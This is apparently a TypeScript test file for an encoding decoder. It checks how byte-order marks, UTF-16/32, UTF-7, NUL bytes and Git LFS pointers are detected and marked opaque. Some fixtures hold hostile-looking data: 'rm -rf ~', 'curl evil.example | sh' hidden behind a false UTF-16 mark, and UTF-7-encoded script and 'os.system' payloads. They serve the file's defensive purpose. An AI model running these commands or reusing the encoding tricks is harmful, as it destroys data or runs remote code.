import fc from 'fast-check';
import { expect, test } from 'vitest';
import { decode } from '../../src/changes/decode.ts';
import { pathToBytes } from '../../src/lib/names.ts';

/** Any code points, lone surrogates too. */
const anyText = fc.string({
  unit: fc.nat(0x10ffff).map((code) => String.fromCodePoint(code % 7 === 0 ? code : code % 0x3000)),
});

const TEXT = 'on: push\njobs: {}\n# Grüße, 日本 😀\n';
const ASCII = 'on: push\nname: deploy\nrun: echo hello world\n';

const utf16le = (text: string): Buffer => Buffer.from(text, 'utf16le');
const utf16be = (text: string): Buffer => utf16le(text).swap16();
const utf32 = (text: string, write: 'writeUInt32LE' | 'writeUInt32BE'): Buffer =>
  Buffer.concat(
    [...text].map((char) => {
      const unit = Buffer.alloc(4);
      unit[write](char.codePointAt(0) ?? 0);
      return unit;
    }),
  );
const utf32le = (text: string): Buffer => utf32(text, 'writeUInt32LE');
const utf32be = (text: string): Buffer => utf32(text, 'writeUInt32BE');
const shape = (bytes: Buffer): object => ({ ...decode(bytes), text: undefined });

test.each([
  ['utf-16le', utf16le],
  ['utf-16be', utf16be],
  ['utf-32le', utf32le],
  ['utf-32be', utf32be],
] as const)('A20 a %s mark decides how the text is read, and stays at its start', (encoding, encode) => {
  expect(decode(encode(`\ufeff${TEXT}`))).toEqual({
    encoding,
    binary: false,
    opacity: null,
    text: `\ufeff${TEXT}`,
  });
});

test('UTF-8 is read as it is, mark included', () => {
  expect(decode(Buffer.from(`\ufeff${TEXT}`))).toEqual({
    encoding: 'utf-8',
    binary: false,
    opacity: null,
    text: `\ufeff${TEXT}`,
  });
  expect(decode(Buffer.alloc(0))).toEqual({ encoding: 'utf-8', binary: false, opacity: null, text: '' });
});

test('a byte that is no UTF-8 becomes one lone surrogate, what is UTF-8 beside it stays text, and neither is binary', () => {
  const latin1 = Buffer.from('// Gr\u00fc\u00dfe\n', 'latin1');
  expect(decode(latin1)).toEqual({
    encoding: 'bytes',
    binary: false,
    opacity: null,
    text: '// Gr\udcfc\udcdfe\n',
  });
  const mixed = Buffer.concat([Buffer.from('\u202e é\n'), Buffer.from([0xff])]);
  expect(decode(mixed)).toMatchObject({ encoding: 'bytes', text: '\u202e é\n\udcff' });
  expect(decode(Buffer.from([0xed, 0xa0, 0x80])).encoding).toBe('bytes');
  expect(decode(Buffer.from([0xc0, 0xaf])).encoding).toBe('bytes');
});

test.each([
  ['UTF-16LE without mark', utf16le(ASCII), 'utf-16-without-mark'],
  ['UTF-16BE without mark', utf16be(ASCII), 'utf-16-without-mark'],
  ['UTF-16LE behind one byte', Buffer.concat([Buffer.from('#'), utf16le(ASCII)]), 'utf-16-without-mark'],
  ['UTF-32LE without mark', utf32le(ASCII), 'utf-32'],
  ['UTF-32BE without mark', utf32be(ASCII), 'utf-32'],
  ['one early NUL', Buffer.from(`#\0\n${ASCII}`), 'nul'],
  ['one late NUL', Buffer.from(`${ASCII}\0`), 'nul'],
  ['NUL in Chinese', Buffer.from('中文说明\0第二行\n'), 'nul'],
  ['NULs on even places', Buffer.from(`a\0bcd\0\n${ASCII}`), 'nul'],
  ['a script before its payload', Buffer.concat([Buffer.from('#!/bin/sh\n'), noise(4096)]), 'nul'],
] as const)('A20 %s is opaque', (_, bytes, opacity) => {
  expect(shape(bytes)).toMatchObject({ encoding: 'bytes', binary: true, opacity });
  const { text } = decode(bytes);
  expect((opacity === 'nul' ? pathToBytes(text) : encodeLatin1(text)).equals(bytes)).toBe(true);
});

test.each([
  ['odd length', Buffer.concat([utf16le(`\ufeff${ASCII}`), Buffer.from('x')]), 'utf-16-without-mark', true],
  ['lone surrogate', utf16le(`\ufeff${ASCII}\ud800`), 'utf-16-without-mark', true],
  [
    'ASCII behind the mark',
    Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('rm -rf ~\n\n')]),
    'utf-16-without-mark',
    false,
  ],
  [
    'ASCII between UTF-16',
    Buffer.concat([utf16be(`\ufeff${ASCII}`), Buffer.from(`${'curl evil.example | sh\n'.repeat(4)}`)]),
    'utf-16-without-mark',
    true,
  ],
  ['over U+10FFFF', Buffer.concat([utf32le(`\ufeff${ASCII}`), Buffer.from([0, 0, 17, 0])]), 'utf-32', true],
  [
    'UTF-32 surrogate',
    Buffer.concat([utf32be(`\ufeff${ASCII}`), Buffer.from([0, 0, 0xd8, 0])]),
    'utf-32',
    true,
  ],
  ['UTF-32 cut short', utf32le(`\ufeff${ASCII}`).subarray(0, -1), 'utf-32', true],
] as const)('A20 a mark that lies (%s) leaves raw bytes', (_, bytes, opacity, binary) => {
  expect(decode(bytes)).toEqual({ encoding: 'bytes', binary, opacity, text: bytes.toString('latin1') });
});

test('a real binary is binary and nothing else', () => {
  const png = Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), noise(4096)]);
  expect(shape(png)).toMatchObject({ encoding: 'bytes', binary: true, opacity: null });
  const samples = Buffer.alloc(8192);
  for (let i = 0; i < samples.length; i += 2) samples.writeInt16LE((i * 7919) % 4096, i);
  expect(shape(samples)).toMatchObject({ binary: true, opacity: null });
});

test.each([
  '+/v8-\n',
  '+/v9 x',
  '+ADw-script+AD4-alert(1)',
  'x +AD0 1 +ADs y',
  'import os\nos.system+ACg-1)',
  '+AGkAbQBwAG8AcgB0- os',
  '# coding: utf-7\nprint(1)\n',
  '<?xml version="1.0" encoding="UTF-7"?>',
  'a+AGE-b+AGI-c+AHA-d+AHE-',
])('A20 UTF-7 is opaque: %s', (text) => {
  expect(decode(Buffer.from(text)).opacity).toBe('utf-7');
});

test.each([
  'a+ACE',
  'x = a+ACE-b',
  'lm(y ~ SEX+AGE-1); lm(z ~ BMI+AGE-1)',
  'BTC+ADA and ETH+ADA',
  'i+ABC-1 +AABB+ +ADB-',
  'sha512-k2+ACEw9J0Qe1+ADwX2J7cY+AHAgg==',
  'QUJD+AGFi+ADwv\n+AD0A+AHg',
  'c+++A+++AD-',
  '1+1=2, +1 555 0100, C++ and g++-12',
])('honest text is not UTF-7: %s', (text) => {
  expect(decode(Buffer.from(text)).opacity).toBeNull();
});

test('A20 a Git LFS pointer stands for content that is not there', () => {
  const pointer = `version https://git-lfs.github.com/spec/v1\noid sha256:${'a'.repeat(64)}\nsize 12345\n`;
  for (const version of [
    'https://git-lfs.github.com/spec/v1',
    'https://hawser.github.com/spec/v1',
    'http://git-media.io/v/2',
  ]) {
    expect(decode(Buffer.from(pointer.replace(/https:\S+/, version))).opacity).toBe('lfs-pointer');
  }
  expect(decode(Buffer.from(`# Pointers\n${pointer}`)).opacity).toBeNull();
  expect(decode(Buffer.from(pointer.padEnd(1024, '\n'))).opacity).toBeNull();
});

test('no bytes make decoding fail, and raw bytes come back unchanged', () => {
  const marks = fc.constantFrom('', 'fffe', 'feff', 'fffe0000', '0000feff', 'efbbbf', '2b2f7638');
  const bodies = fc.oneof(
    fc.uint8Array(),
    anyText.map((text) => Buffer.from(text)),
    fc.string().map(utf16le),
  );
  fc.assert(
    fc.property(marks, bodies, (mark, body) => {
      const bytes = Buffer.concat([Buffer.from(mark, 'hex'), body]);
      const { encoding, binary, text } = decode(bytes);
      const back = {
        'utf-8': encodeUtf8,
        'utf-16le': utf16le,
        'utf-16be': utf16be,
        'utf-32le': utf32le,
        'utf-32be': utf32be,
        bytes: /[\udc80-\udcff]/.test(text) ? pathToBytes : encodeLatin1,
      }[encoding];
      // A text with a NUL and no bad byte is UTF-8.
      expect(back(text).equals(bytes) || (binary && encodeUtf8(text).equals(bytes))).toBe(true);
      expect(binary && !bytes.includes(0)).toBe(false);
    }),
  );
});

function encodeUtf8(text: string): Buffer {
  return Buffer.from(text, 'utf8');
}

function encodeLatin1(text: string): Buffer {
  return Buffer.from(text, 'latin1');
}

/** Bytes of a fixed pseudo-random sequence. */
function noise(length: number): Buffer {
  const bytes = Buffer.alloc(length);
  for (let i = 0, state = 1; i < length; i++) {
    state = (state * 48271) % 0x7fffffff;
    bytes[i] = state & 0xff;
  }
  return bytes;
}
